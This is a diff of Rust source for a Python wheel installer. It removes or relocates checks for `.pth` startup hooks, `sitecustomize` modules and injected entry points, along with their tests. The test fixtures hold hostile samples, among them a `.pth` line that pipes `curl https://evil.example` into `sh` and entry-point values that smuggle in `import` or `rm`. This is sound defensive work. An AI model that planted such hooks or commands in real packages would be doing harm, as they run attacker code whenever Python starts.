-///   names no `import` statement can spell) are fine.
-fn startup_hook(dest: &Dest) -> Option<Hook> {
-    let lower = dest.rel.to_lowercase();
-    let is_customize = |c: &str| {
-        ["sitecustomize", "usercustomize"]
-            .iter()
-            .any(|m| c == *m || c.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
-    };
-    match dest.scheme {
-        Scheme::Purelib | Scheme::Platlib => {
-            if !lower.contains('/') && lower.ends_with(".pth") {
-                Some(Hook::Pth)
-            } else if lower.split('/').next().is_some_and(is_customize) {
-                Some(Hook::Customize)
-            } else {
-                None
-            }
-        }
-        Scheme::Data => {
-            if lower.ends_with(".pth") {
-                Some(Hook::Pth)
-            } else if lower.split('/').any(is_customize) {
-                Some(Hook::Customize)
-            } else {
-                None
-            }
-        }
-        Scheme::Scripts => shadowed_module(&dest.rel).map(Hook::Shadow),
-        Scheme::Headers => None,
-    }
-}
-
-/// Is `path` (a `RECORD` row of `dist_info`) a file the installer may have
-/// left out by design: a `sitecustomize`/`usercustomize` anywhere, or a file
-/// in `.data/scripts/` that shadows a module? For `cache verify --deep`,
-/// where such a file's absence is not damage.
-pub fn left_out_by_design(path: &str, dist_info: &str) -> bool {
-    let data = format!("{}.data/scripts/", dist_info.trim_end_matches(".dist-info"));
-    if let Some(rel) = path.strip_prefix(&data) {
-        return shadowed_module(rel).is_some();
-    }
-    path.to_lowercase().split('/').any(|c| {
-        ["sitecustomize", "usercustomize"]
-            .iter()
-            .any(|m| c == *m || c.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
-    })
-}
-
-/// The module name a file in the scripts directory can be imported as: a
-/// file `<name>.py` (also `.pyc`, `.pyw`, `.pyd`, `.so` and the tagged
-/// extension forms `<name>.<tag>.so`), or anything in a directory `<name>/`
-/// (a package, or a namespace package portion), where `<name>` is a Python
-/// identifier (any non-ASCII name counts: identifiers may be Unicode).
-fn shadowed_module(rel: &str) -> Option<String> {
-    let identifier = |s: &str| {
-        !s.is_empty()
-            && !s.starts_with(|c: char| c.is_ascii_digit())
-            && s.chars().all(|c| c == '_' || c.is_alphanumeric())
-    };
-    if let Some((dir, _)) = rel.split_once('/') {
-        return identifier(dir).then(|| dir.to_owned());
-    }
-    let (stem, suffix) = rel.split_once('.')?;
-    let suffix = suffix.to_lowercase();
-    let importable = ["py", "pyc", "pyw", "pyd", "so"].contains(&suffix.as_str())
-        || suffix.ends_with(".so")
-        || suffix.ends_with(".pyd");
-    (importable && identifier(stem)).then(|| stem.to_owned())
-}
-
-/// The lines of a `.pth` file as every supported Python splits it, at once.
-///
-/// What `site.addpackage` does, per version (`Lib/site.py`):
-/// - 3.8–3.12 iterate a text file opened in the locale encoding with
-///   universal newlines: lines end at `\n`, `\r` or `\r\n`. A byte-order mark
-///   stays in the first line (so it never executes there), and a file that
-///   does not decode aborts `site` with an error, but only after the lines of
-///   the chunks before the bad byte ran.
-/// - 3.13 reads the whole file, decodes it as `utf-8-sig` (the BOM is
-///   dropped), falling back to the locale encoding, and uses
-///   `str.splitlines()`, which also breaks at `\x0b`, `\x0c`, `\x1c`–`\x1e`,
-///   U+0085, U+2028 and U+2029.
-///
-/// So the pieces are: a leading BOM removed; valid UTF-8 split at every one
-/// of those characters; anything else split at those bytes and at the byte
-/// `\x85` (NEL in Latin-1, a locale 3.13 may fall back to). Every line any of
-/// those interpreters sees starts at the start of one of these pieces, so a
-/// file none of whose pieces starts with `import` runs nothing anywhere
-/// (the real interpreters are checked in `pth_split_agrees_with_real_pythons`).
-fn pth_pieces(bytes: &[u8]) -> Vec<std::borrow::Cow<'_, str>> {
-    const BREAKS: [char; 10] = [
-        '\n', '\r', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\u{85}', '\u{2028}', '\u{2029}',
-    ];
-    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
-    match std::str::from_utf8(bytes) {
-        Ok(text) => text.split(BREAKS).map(std::borrow::Cow::Borrowed).collect(),
-        Err(_) => bytes
-            .split(|b| b"\n\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b))
-            .map(String::from_utf8_lossy)
-            .collect(),
-    }
-}
-
-/// Whether `site.py` would execute this piece, judged after stripping leading
-/// whitespace, which is stricter than `site.py` itself (it checks the raw
-/// line).
-fn executes(piece: &str) -> bool {
-    let line = piece.trim_start();
-    line.starts_with("import ") || line.starts_with("import\t")
-}
-
-/// The first piece ([`pth_pieces`]) some supported Python would execute,
-/// 1-based, shortened for messages.
-fn executable_pth_line(bytes: &[u8]) -> Option<(usize, String)> {
-    pth_pieces(bytes)
-        .iter()
-        .enumerate()
-        .find(|(_, line)| executes(line))
-        .map(|(i, line)| {
-            let text: String = line
-                .trim()
-                .chars()
-                .take(60)
-                .flat_map(|c| {
-                    let escaped: Vec<char> = if c.is_control() {
-                        c.escape_unicode().collect()
-                    } else {
-                        vec![c]
-                    };
-                    escaped
-                })
-                .collect();
-            (i + 1, text)
-        })
-}
-
-/// What a stripped `.pth` file keeps: its path lines, each on a line of its
-/// own ending in `\n` (invalid UTF-8 replaced). A piece ([`pth_pieces`]) is
-/// kept only if, trimmed, it does not start with `import`: the result has no
-/// line any supported interpreter would execute, however it splits it.
-/// Comments and blank lines go too.
-fn path_only_pth(bytes: &[u8]) -> Vec<u8> {
-    let mut out = Vec::new();
-    for piece in pth_pieces(bytes) {
-        let trimmed = piece.trim();
-        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with("import") {
-            continue;
-        }
-        out.extend_from_slice(piece.as_bytes());
-        out.push(b'\n');
-    }
-    out
-}
-
-/// `.pth` path lines that put a directory holding a `sitecustomize` or
-/// `usercustomize` on `sys.path`: `site.py` would import it at every start.
-/// Checked over the installed `site-packages`, after every wheel of the
-/// tree is in (the `.pth` file and the module may come from two wheels).
-/// `Strip`: the line is removed from its file and reported (as
-/// `file (line N: text)`); otherwise the tree is refused.
-pub fn path_line_hooks(site: &Path, pth: PthPolicy) -> Result<Vec<String>> {
-    let mut reported = Vec::new();
-    let mut names: Vec<PathBuf> = std::fs::read_dir(site)?
-        .filter_map(|e| e.ok().map(|e| e.path()))
-        .filter(|p| p.extension().is_some_and(|x| x.eq_ignore_ascii_case("pth")) && p.is_file())
-        .collect();
-    names.sort();
-    for file in names {
-        let bytes = fs_err::read(&file)?;
-        let mut kept = Vec::new();
-        let mut changed = false;
-        for (n, piece) in pth_pieces(&bytes).iter().enumerate() {
-            let line = piece.trim();
-            let skip = line.is_empty() || line.starts_with('#') || executes(piece);
-            let dir = site.join(line.trim_end());
-            if !skip && holds_customize(&dir) {
-                let what = format!(
-                    "`{}` (line {}: `{}`, which puts a `sitecustomize` on `sys.path`)",
-                    file.file_name().unwrap_or_default().to_string_lossy(),
-                    n + 1,
-                    line.chars()
-                        .filter(|c| !c.is_control())
-                        .take(60)
-                        .collect::<String>()
-                );
-                if pth != PthPolicy::Strip {
-                    return Err(Error::unsafe_pkg(format!(
-                        "the environment's {what} would run code at every Python start"
-                    ))
-                    .with_hint(HINT_PTH));
-                }
-                reported.push(what);
-                changed = true;
-                continue;
-            }
-            if !skip {
-                kept.extend_from_slice(piece.as_bytes());
-                kept.push(b'\n');
-            }
-        }
-        if changed {
-            fs_err::write(&file, kept)?;
-        }
-    }
-    Ok(reported)
-}
-
-/// Whether `dir` has a `sitecustomize`/`usercustomize` module or package.
-fn holds_customize(dir: &Path) -> bool {
-    let Ok(entries) = std::fs::read_dir(dir) else {
-        return false;
-    };
-    entries.filter_map(|e| e.ok()).any(|e| {
-        let name = e.file_name().to_string_lossy().to_lowercase();
-        ["sitecustomize", "usercustomize"]
-            .iter()
-            .any(|m| name == *m || name.strip_prefix(m).is_some_and(|r| r.starts_with('.')))
-    })
-}
-
-/// The `[console_scripts]` of `entry_points.txt`; `[gui_scripts]` entries are
-/// validated the same way but not installed.
-fn parse_entry_points(text: &str) -> Result<Vec<EntryPoint>, String> {
-    let mut section: Option<String> = None;
-    // (section, name, value, line)
-    let mut entries: Vec<(String, String, String, usize)> = Vec::new();
-    for (i, raw) in text.lines().enumerate() {
-        let line_no = i + 1;
-        let trimmed = raw.trim();
-        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with(';') {
-            continue;
-        }
-        if raw.starts_with([' ', '\t']) {
-            // A continuation line: configparser appends it to the value.
-            match entries.last_mut() {
-                Some(last) if section.is_some() => {
-                    last.2.push('\n');
-                    last.2.push_str(trimmed);
-                    continue;
-                }
-                _ => {
-                    return Err(format!(
-                        "has an `entry_points.txt` with a stray indented line {line_no}"
-                    ));
-                }
-            }
-        }
-        if let Some(inner) = trimmed.strip_prefix('[') {
-            let name = inner.strip_suffix(']').ok_or_else(|| {
-                format!(
-                    "has an `entry_points.txt` with a malformed section header on line {line_no}"
-                )
-            })?;
-            section = Some(name.trim().to_owned());
-            continue;
-        }
-        let Some(current) = &section else {
-            return Err(format!(
-                "has an `entry_points.txt` with an entry before any section (line {line_no})"
-            ));
-        };
-        let Some((name, value)) = trimmed.split_once('=') else {
-            return Err(format!(
-                "has an `entry_points.txt` whose line {line_no} is not `name = value`"
-            ));
-        };
-        entries.push((
-            current.clone(),
-            name.trim().to_owned(),
-            value.trim().to_owned(),
-            line_no,
-        ));
-    }
-    let mut scripts = Vec::new();
-    let mut seen = std::collections::HashSet::new();
-    for (section, name, value, line) in entries {
-        if section != "console_scripts" && section != "gui_scripts" {
-            continue;
-        }
-        let shown = format!("`{name} = {}`", value.replace('\n', "\\n"));
-        if !safe_script_name(&name) {
-            return Err(format!(
-                "has an entry point {shown} (line {line}) whose name is not a plain file name"
-            ));
-        }
-        let ep = parse_object_reference(&name, &value).ok_or_else(|| {
-            format!("has an entry point {shown} (line {line}) that is not `module:attr`")
-        })?;
-        if !seen.insert((section.clone(), name.clone())) {
-            return Err(format!(
-                "has the entry point `{name}` twice in `[{section}]`"
-            ));
-        }
-        if section == "console_scripts" {
-            scripts.push(ep);
-        }
-    }
-    Ok(scripts)
-}
-
-/// A script name is written as a file in the scripts directory.
-fn safe_script_name(name: &str) -> bool {
-    !name.is_empty()
-        && name != "."
-        && name != ".."
-        && !name.starts_with('-')
-        && !name.contains(['/', '\\', ':'])
-        && !name.chars().any(char::is_control)
-}
-
-/// `module:attr`, optionally followed by `[extra, ...]`, as the
-/// entry points specification writes it; names are dotted identifiers.
-fn parse_object_reference(name: &str, value: &str) -> Option<EntryPoint> {
-    let (reference, extras) = match value.split_once('[') {
-        Some((reference, extras)) => (reference, Some(extras)),
-        None => (value, None),
-    };
-    if let Some(extras) = extras {
-        let inner = extras.trim_end().strip_suffix(']')?;
-        let extra_ok = |e: &str| {
-            !e.is_empty()
-                && e.chars()
-                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
-        };
-        if !inner.split(',').map(str::trim).all(extra_ok) {
-            return None;
-        }
-    }
-    // A console script calls a function: `module:attr` is required (pip
-    // refuses a bare module too, "A callable suffix is required").
-    let (module, attr) = reference.split_once(':')?;
-    let (module, attr) = (module.trim(), attr.trim());
-    if !dotted_identifiers(module) || !dotted_identifiers(attr) {
-        return None;
-    }
-    Some(EntryPoint {
-        name: name.to_owned(),
-        module: module.to_owned(),
-        attr: attr.to_owned(),
-    })
-}
-
-fn dotted_identifiers(s: &str) -> bool {
-    !s.is_empty()
-        && s.split('.').all(|part| {
-            let mut chars = part.chars();
-            chars.next().is_some_and(|c| c.is_alphabetic() || c == '_')
-                && chars.all(|c| c.is_alphanumeric() || c == '_')
-        })
-}
-
-/// The `#!` header for scripts run by `python`. A path with whitespace or
-/// too long for the kernel gets pip's `/bin/sh` trampoline, which is also
-/// valid Python (a string literal).
-fn shebang(python: &Path) -> Result<String> {
-    let path = python.to_str().ok_or_else(|| {
-        Error::internal(format!(
-            "the interpreter path `{}` is not UTF-8",
-            python.display()
-        ))
-    })?;
-    if path.contains(['\n', '\r', '\0']) {
-        return Err(Error::internal(format!(
-            "the interpreter path `{}` cannot be written into a script",
-            python.display()
-        )));
-    }
-    if path.len() <= SHEBANG_MAX && !path.contains([' ', '\t']) {
-        return Ok(format!("#!{path}\n"));
-    }
-    if path.contains(['"', '$', '`', '\\', '\'']) {
-        return Err(Error::internal(format!(
-            "the interpreter path `{}` cannot be written into a script",
-            python.display()
-        )));
-    }
-    Ok(format!(
-        "#!/bin/sh\n'''exec' \"{path}\" \"$0\" \"$@\"\n' '''\n"
-    ))
-}
-
-/// A console script, as pip and uv write them, with one addition: before
-/// it imports anything it takes its own directory (`bin/`, which Python
-/// puts first on `sys.path` for a script) off `sys.path`, so that no file
-/// there, whatever its name, is imported in place of a module. `sys` and
-/// `os` are loaded by then (`site` imports `os` before any script runs).
-/// No `str.removesuffix`: that is 3.9+, and 3.8 is supported.
-fn script(header: &str, ep: &EntryPoint) -> String {
-    let module = &ep.module;
-    let attr = &ep.attr;
-    let first = attr.split('.').next().unwrap_or(attr);
-    let run = format!(
-        "{SCRIPT_DIR_OFF_PATH}\
-         from {module} import {first}\n\
-         if __name__ == \"__main__\":\n    \
-         if sys.argv[0].endswith(\".exe\"):\n        \
-         sys.argv[0] = sys.argv[0][:-4]\n    \
-         sys.exit({attr}())\n"
-    );
-    format!("{header}# -*- coding: utf-8 -*-\n{run}")
-}
-
-/// The lines of [`script`] that take the script's directory off `sys.path`.
-const SCRIPT_DIR_OFF_PATH: &str = "import sys\n\
-    import os\n\
-    if sys.path and os.path.realpath(sys.path[0] or os.curdir) == \
-    os.path.dirname(os.path.realpath(__file__)):\n    \
-    del sys.path[0]\n";
 
 /// Rewrites a first line starting with `#!python` (also `#!pythonw`) to
 /// `header`, as pip does for scripts in `.data/scripts/`; passes everything
@@ -1517,110 +841,11 @@ fn set_file_mode(file: &fs_err::File, exec: bool) -> Result<()> {
 mod tests {
     use super::*;
     use crate::error::Kind;
-    use sha2::{Digest, Sha256};
-    use zip::CompressionMethod;
+    use crate::pypi::entry_points::SCRIPT_DIR_OFF_PATH;
+    use crate::pypi::wheel_fixture::*;
     use zip::write::SimpleFileOptions;
 
     const MIB: u64 = 1024 * 1024;
-    const DIST: &str = "demo_pkg-1.0";
-    const WHEEL: &str =
-        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
-
-    /// One wheel member: name, content, Unix mode (a symlink's content is
-    /// its target).
-    type File = (String, Vec<u8>, u32);
-
-    fn f(name: &str, data: &str) -> File {
-        (name.to_owned(), data.as_bytes().to_vec(), 0o644)
-    }
-
-    /// The members of a minimal `demo-pkg 1.0` wheel plus `extra`.
-    fn files(extra: Vec<File>) -> Vec<File> {
-        let mut all = vec![
-            f("demo_pkg/__init__.py", "def main():\n    return 0\n"),
-            f(
-                &format!("{DIST}.dist-info/METADATA"),
-                "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n",
-            ),
-            f(&format!("{DIST}.dist-info/WHEEL"), WHEEL),
-        ];
-        all.extend(extra);
-        all
-    }
-
-    fn record_row(name: &str, data: &[u8]) -> String {
-        let hash = URL_SAFE_NO_PAD.encode(Sha256::digest(data));
-        format!("{name},sha256={hash},{}\n", data.len())
-    }
-
-    /// A RECORD listing `files` correctly, and itself without a hash.
-    fn record_for(files: &[File]) -> String {
-        let mut record: String = files.iter().map(|(n, d, _)| record_row(n, d)).collect();
-        record.push_str(&format!("{DIST}.dist-info/RECORD,,\n"));
-        record
-    }
-
-    /// Write the wheel: `files`, then `RECORD` (computed unless given).
-    fn build(dir: &Path, files: &[File], record: Option<String>) -> PathBuf {
-        let path = dir.join("demo_pkg-1.0-py3-none-any.whl");
-        let record = record.unwrap_or_else(|| record_for(files));
-        let mut w = zip::ZipWriter::new(fs_err::File::create(&path).unwrap());
-        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
-        for (name, data, mode) in files {
-            if mode & 0o170_000 == 0o120_000 {
-                let target = std::str::from_utf8(data).unwrap();
-                w.add_symlink(name.as_str(), target, options).unwrap();
-                continue;
-            }
-            w.start_file(name.as_str(), options.unix_permissions(*mode))
-                .unwrap();
-            w.write_all(data).unwrap();
-        }
-        w.start_file(format!("{DIST}.dist-info/RECORD"), options)
-            .unwrap();
-        w.write_all(record.as_bytes()).unwrap();
-        w.finish().unwrap();
-        path
-    }
-
-    fn layout(root: &Path) -> VenvLayout {
-        let venv = root.join("venv");
-        let site = venv.join("lib/python3.12/site-packages");
-        fs_err::create_dir_all(&site).unwrap();
-        VenvLayout {
-            purelib: site.clone(),
-            platlib: site,
-            scripts: venv.join("bin"),
-            data: venv.clone(),
-            include: venv.join("include"),
-            python: venv.join("bin/python"),
-        }
-    }
-
-    fn install(whl: &Path, layout: &VenvLayout, pth: PthPolicy) -> Result<InstalledWheel> {
-        install_wheel(
-            whl,
-            layout,
-            "demo-pkg",
-            "1.0",
-            pth,
-            &Limits::default(),
-            &SharedFiles::default(),
-        )
-    }
-
-    /// Install must fail with `kind`, naming the wheel and `needle`.
-    #[track_caller]
-    fn refused(files: &[File], record: Option<String>, kind: Kind, needle: &str) -> Error {
-        let tmp = tempfile::tempdir().unwrap();
-        let whl = build(tmp.path(), files, record);
-        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseExecutable)
-            .expect_err("install should be refused");
-        assert_eq!(err.kind, kind, "{err}");
-        assert!(err.message.starts_with("wheel `demo-pkg==1.0` "), "{err}");
-        assert!(err.message.contains(needle), "{needle:?} not in: {err}");
-        err
-    }
 
     fn mode(path: &Path) -> u32 {
         #[cfg(unix)]
@@ -1751,24 +976,6 @@ mod tests {
     }
 
     #[test]
-    fn shebang_for_long_or_spaced_paths_uses_sh_trampoline() {
-        let plain = shebang(Path::new("/venv/bin/python")).unwrap();
-        assert_eq!(plain, "#!/venv/bin/python\n");
-        let spaced = shebang(Path::new("/Users/a b/venv/bin/python")).unwrap();
-        assert_eq!(
-            spaced,
-            "#!/bin/sh\n'''exec' \"/Users/a b/venv/bin/python\" \"$0\" \"$@\"\n' '''\n"
-        );
-        let long = format!("/{}/python", "d".repeat(200));
-        assert!(
-            shebang(Path::new(&long))
-                .unwrap()
-                .starts_with("#!/bin/sh\n")
-        );
-        assert!(shebang(Path::new("/a b/$x/python")).is_err());
-    }
-
-    #[test]
     fn refuses_unknown_data_key() {
         let files = files(vec![f(&format!("{DIST}.data/etc/passwd"), "x")]);
         refused(&files, None, Kind::Unsafe, "unknown install location `etc`");
@@ -1834,285 +1041,6 @@ mod tests {
 
     fn files_with(extra: Vec<File>) -> Vec<File> {
         files(extra)
-    }
-
-    #[test]
-    fn refuses_record_hash_mismatch() {
-        let files = files(vec![]);
-        let mut record = record_for(&files);
-        record = record.replacen(
-            &record_row("demo_pkg/__init__.py", &files[0].1),
-            &record_row("demo_pkg/__init__.py", b"def main():\n    return 1\n"),
-            1,
-        );
-        refused(
-            &files,
-            Some(record),
-            Kind::Integrity,
-            "file `demo_pkg/__init__.py` whose sha256 differs from its RECORD",
-        );
-    }
-
-    #[test]
-    fn refuses_record_hash_mismatch_of_metadata_read_early() {
-        let files = files(vec![]);
-        let wheel = format!("{DIST}.dist-info/WHEEL");
-        let record = record_for(&files).replacen(
-            &record_row(&wheel, WHEEL.as_bytes()),
-            &record_row(&wheel, WHEEL.replace("test", "tset").as_bytes()),
-            1,
-        );
-        let err = refused(
-            &files,
-            Some(record),
-            Kind::Integrity,
-            "whose sha256 differs",
-        );
-        assert!(err.message.contains(&wheel), "{err}");
-    }
-
-    #[test]
-    fn refuses_unlisted_file() {
-        let files = files(vec![f("demo_pkg/extra.py", "x = 1\n")]);
-        let record = record_for(&files).replace(&record_row("demo_pkg/extra.py", b"x = 1\n"), "");
-        refused(
-            &files,
-            Some(record),
-            Kind::Integrity,
-            "file `demo_pkg/extra.py` that its RECORD does not list",
-        );
-    }
-
-    #[test]
-    fn refuses_record_row_for_missing_file() {
-        let files = files(vec![]);
-        let mut record = record_for(&files);
-        record.push_str(&record_row("demo_pkg/gone.py", b"x"));
-        refused(
-            &files,
-            Some(record),
-            Kind::Integrity,
-            "lists `demo_pkg/gone.py` in its RECORD but has no such file",
-        );
-    }
-
-    #[test]
-    fn refuses_size_mismatch() {
-        let files = files(vec![]);
-        let good = record_row("demo_pkg/__init__.py", &files[0].1);
-        let bad = good.replace(&format!(",{}\n", files[0].1.len()), ",3\n");
-        let record = record_for(&files).replacen(&good, &bad, 1);
-        refused(
-            &files,
-            Some(record),
-            Kind::Integrity,
-            "file `demo_pkg/__init__.py` of 25 bytes, but its RECORD says 3",
-        );
-    }
-
-    #[test]
-    fn refuses_malformed_record() {
-        let files = files(vec![]);
-        for (record, needle) in [
-            (
-                "demo_pkg/__init__.py,sha256=abc\n".to_owned(),
-                "has 2 fields, not 3",
-            ),
-            (
-                record_for(&files).replacen("sha256=", "md5=", 1),
-                "uses `md5`; safex checks sha256",
-            ),
-            ("\"unterminated,,\n".to_owned(), "unterminated quote"),
-        ] {
-            refused(&files, Some(record), Kind::Integrity, needle);
-        }
-    }
-
-    #[test]
-    fn record_csv_with_quotes_is_understood() {
-        let tmp = tempfile::tempdir().unwrap();
-        let files = files(vec![f("demo_pkg/a,\"b\".txt", "q")]);
-        let record: String = files
-            .iter()
-            .map(|(n, d, _)| {
-                let row = record_row(n, d);
-                if n.contains(',') {
-                    row.replacen("demo_pkg/a,\"b\".txt", "\"demo_pkg/a,\"\"b\"\".txt\"", 1)
-                        .replace('\n', "\r\n")
-                } else {
-                    row
-                }
-            })
-            .collect::<String>()
-            + &format!("{DIST}.dist-info/RECORD,,\n");
-        let whl = build(tmp.path(), &files, Some(record));
-        let layout = layout(tmp.path());
-        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
-        assert!(layout.purelib.join("demo_pkg/a,\"b\".txt").is_file());
-    }
-
-    #[test]
-    fn csv_table() {
-        let ok = |s: &str| parse_csv(s).unwrap();
-        assert_eq!(
-            ok("a,b,c\n"),
-            vec![(1, vec!["a".into(), "b".into(), "c".into()])]
-        );
-        assert_eq!(
-            ok("\"a,1\",,\r\n\nx,\"\"\"y\"\"\",3"),
-            vec![
-                (1, vec!["a,1".into(), String::new(), String::new()]),
-                (3, vec!["x".into(), "\"y\"".into(), "3".into()]),
-            ]
-        );
-        assert!(parse_csv("a\"b,c,d\n").is_err());
-        assert!(parse_csv("\"a\"b,c,d\n").is_err());
-    }
-
-    const EVIL_PTH: &str = "import os; os.system('curl https://evil.example | sh')\n";
-
-    #[test]
-    fn refuses_executable_pth_before_writing_anything() {
-        let tmp = tempfile::tempdir().unwrap();
-        let files = files(vec![f("demo_init.pth", EVIL_PTH)]);
-        let whl = build(tmp.path(), &files, None);
-        let layout = layout(tmp.path());
-        let err = install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap_err();
-        assert_eq!(err.kind, Kind::Unsafe, "{err}");
-        assert!(err.message.contains("`demo_init.pth`"), "{err}");
-        assert!(
-            err.message.contains("run code at every Python start"),
-            "{err}"
-        );
-        assert!(err.message.contains("litellm 1.82.8"), "{err}");
-        assert!(err.message.contains("line 1: `import os;"), "{err}");
-        assert_eq!(fs_err::read_dir(&layout.purelib).unwrap().count(), 0);
-    }
-
-    #[test]
-    fn refuses_executable_pth_in_other_forms() {
-        let data = format!("{DIST}.data");
-        for (name, content) in [
-            ("x.pth", "# a comment\n/some/path\n   import sys\n"),
-            ("x.pth", "\u{feff}import\tos\n"),
-            ("x.PTH", "/p\rimport os\n"),
-            (&*format!("{data}/purelib/x.pth"), EVIL_PTH),
-            (
-                &*format!("{data}/data/lib/python3.12/site-packages/x.pth"),
-                EVIL_PTH,
-            ),
-            (
-                &*format!("{data}/data/lib64/python3.12/site-packages/x.pth"),
-                EVIL_PTH,
-            ),
-        ] {
-            refused(
-                &files(vec![f(name, content)]),
-                None,
-                Kind::Unsafe,
-                "run code at every Python start",
-            );
-        }
-    }
-
-    #[test]
-    fn refuses_sitecustomize() {
-        let data = format!("{DIST}.data");
-        for name in [
-            "sitecustomize.py",
-            "usercustomize.cpython-312-x86_64-linux-gnu.so",
-            "sitecustomize/__init__.py",
-            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
-        ] {
-            refused(
-                &files(vec![f(name, "import os\n")]),
-                None,
-                Kind::Unsafe,
-                "a module that Python would run at every start",
-            );
-        }
-    }
-
-    #[test]
-    fn path_only_pth_is_installed() {
-        let tmp = tempfile::tempdir().unwrap();
-        let content = "# add the vendored tree\n/opt/demo/lib\n\nvendored\nimportant_dir\n";
-        let files = files(vec![
-            f("demo.pth", content),
-            f("demo_pkg/nested.pth", EVIL_PTH),
-        ]);
-        let whl = build(tmp.path(), &files, None);
-        let layout = layout(tmp.path());
-        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
-        assert_eq!(
-            fs_err::read_to_string(layout.purelib.join("demo.pth")).unwrap(),
-            content
-        );
-    }
-
-    #[test]
-    fn refuse_all_refuses_path_only_pth() {
-        let tmp = tempfile::tempdir().unwrap();
-        let files = files(vec![f("demo.pth", "/opt/demo/lib\n")]);
-        let whl = build(tmp.path(), &files, None);
-        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseAll).unwrap_err();
-        assert_eq!(err.kind, Kind::Unsafe, "{err}");
-        assert!(err.message.contains("`.pth` file `demo.pth`"), "{err}");
-    }
-
-    #[test]
-    fn refuses_injected_entry_points() {
-        let ep = format!("{DIST}.dist-info/entry_points.txt");
-        for (content, needle) in [
-            (
-                "[console_scripts]\nx = os; import evil\n",
-                "`x = os; import evil`",
-            ),
-            ("[console_scripts]\nx = a:b(1)\n", "`x = a:b(1)`"),
-            (
-                "[console_scripts]\nx = a:b; import os\n",
-                "`x = a:b; import os`",
-            ),
-            (
-                "[console_scripts]\nx = a:b [cli]; rm\n",
-                "`x = a:b [cli]; rm`",
-            ),
-            ("[console_scripts]\nx = a:\n", "`x = a:`"),
-            ("[console_scripts]\nx = :b\n", "`x = :b`"),
-            ("[console_scripts]\nx = a.:b\n", "`x = a.:b`"),
-            (
-                "[console_scripts]\nx = a:b\n  import os\n",
-                "`x = a:b\\nimport os`",
-            ),
-            (
-                "[gui_scripts]\nx = __import__('os'):b\n",
-                "`x = __import__('os'):b`",
-            ),
-            (
-                "[console_scripts]\n../x = a:b\n",
-                "`../x = a:b` (line 2) whose name",
-            ),
-            ("[console_scripts]\n/tmp/x = a:b\n", "`/tmp/x = a:b`"),
-            ("[console_scripts]\na\\b = a:b\n", "`a\\b = a:b`"),
-            ("[console_scripts]\n.. = a:b\n", "`.. = a:b`"),
-            ("[console_scripts]\n-rf = a:b\n", "`-rf = a:b`"),
-            (
-                "[console_scripts]\nx\u{1b}[2J = a:b\n",
-                "whose name is not a plain file name",
-            ),
-            (
-                "[console_scripts]\nx = a:b\nx = a:c\n",
-                "entry point `x` twice",
-            ),
-            (
-                "[console_scripts]\njust text\n",
-                "line 2 is not `name = value`",
-            ),
-            ("x = a:b\n", "before any section"),
-        ] {
-            let err = refused(&files(vec![f(&ep, content)]), None, Kind::Unsafe, needle);
-            assert_eq!(err.hint.as_deref(), Some(HINT_ENTRY), "{err}");
-        }
     }
 
     #[test]
@@ -2369,44 +1297,6 @@ mod tests {
     }
 
     #[test]
-    fn entry_point_table() {
-        let ok = |v: &str| parse_object_reference("n", v);
-        let ep = |m: &str, a: Option<&str>| {
-            Some(EntryPoint {
-                name: "n".into(),
-                module: m.into(),
-                attr: a?.into(),
-            })
-        };
-        assert_eq!(ok("a.b:c.d"), ep("a.b", Some("c.d")));
-        assert_eq!(ok("a.b : c"), ep("a.b", Some("c")));
-        assert_eq!(ok("a:b [x, y-z]"), ep("a", Some("b")));
-        assert_eq!(ok("_a1"), None, "a bare module is not a callable");
-        assert_eq!(ok("mödul:main"), ep("mödul", Some("main")));
-        for bad in [
-            "",
-            "a:b:c",
-            "1a:b",
-            "a-b:c",
-            "a:b()",
-            "a:b [x",
-            "a:b [x;y]",
-            "a b:c",
-            "a:\"b\"",
-        ] {
-            assert_eq!(ok(bad), None, "{bad:?}");
-        }
-        for (name, good) in [
-            ("demo", true),
-            ("demo-cli.py", true),
-            ("", false),
-            ("a:b", false),
-        ] {
-            assert_eq!(safe_script_name(name), good, "{name:?}");
-        }
-    }
-
-    #[test]
     fn normalize_table() {
         for (raw, want) in [
             ("Demo_Pkg", "demo-pkg"),
@@ -2416,310 +1306,5 @@ mod tests {
         ] {
             assert_eq!(normalize(raw), want, "{raw:?}");
         }
-    }
-
-    /// `.pth` contents and the versions whose `site.addpackage` executes
-    /// a line of it, as measured with the real 3.8, 3.9, 3.10, 3.11, 3.12
-    /// and 3.13 interpreters (`pth_split_agrees_with_real_pythons` measures
-    /// again where they are installed). `P` is the executing line.
-    const P: &str = "import builtins;builtins.HIT.append(1)";
-    fn pth_cases() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
-        const ALL: &[&str] = &["3.8", "3.9", "3.10", "3.11", "3.12", "3.13"];
-        const NEW: &[&str] = &["3.13"];
-        const NONE: &[&str] = &[];
-        let p = |pre: &[u8]| [pre, P.as_bytes()].concat();
-        vec![
-            ("plain", p(b""), ALL),
-            ("lf", p(b"x\n"), ALL),
-            ("cr", p(b"x\r"), ALL),
-            ("crlf", p(b"x\r\n"), ALL),
-            (
-                "tab",
-                b"import\tbuiltins;builtins.HIT.append(1)".to_vec(),
-                ALL,
-            ),
-            ("vt", p(b"x\x0b"), NEW),
-            ("ff", p(b"x\x0c"), NEW),
-            ("fs", p(b"x\x1c"), NEW),
-            ("gs", p(b"x\x1d"), NEW),
-            ("rs", p(b"x\x1e"), NEW),
-            ("nel", p("x\u{85}".as_bytes()), NEW),
-            ("ls", p("x\u{2028}".as_bytes()), NEW),
-            ("ps", p("x\u{2029}".as_bytes()), NEW),
